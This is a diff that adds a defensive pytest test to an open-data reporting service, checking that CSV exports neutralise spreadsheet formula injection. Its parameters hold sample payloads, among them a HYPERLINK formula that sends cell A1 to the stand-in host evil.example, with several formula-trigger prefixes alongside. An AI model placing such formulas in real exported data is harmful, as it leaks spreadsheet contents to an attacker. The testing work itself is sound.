@@ -70,3 +70,27 @@ async def test_open_data_is_anonymous_and_unknown_dataset_is_404(reporting_clien
     assert unknown.status_code == 404
     assert unknown.headers["content-type"] == "application/problem+json"
     assert (await reporting_client.get("/opendata/people.json")).status_code == 404
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("https://evil.example/?x="&A1,"clicca")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"],
+)
+async def test_csv_cells_cannot_run_as_spreadsheet_formulas(
+    session: Session, script: EventScript, reporting_client: httpx.AsyncClient, title: str
+) -> None:
+    edition = build(script)
+    script.invention(edition["PA"], edition["A"], edition["E1"], title=title, theme="reti_vive")
+    catch_up(session)
+    text = (await reporting_client.get("/opendata/inventions.csv")).text
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+    assert "'" + title in titles
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for row in csv.reader(io.StringIO(text, newline=""))
+        for cell in row
+    )
+    as_json = (await reporting_client.get("/opendata/inventions.json")).json()
+    assert title in [row["title"] for row in as_json]
+    package = (await reporting_client.get("/opendata/datapackage.json")).json()
+    assert "apostrophe" in package["description"]
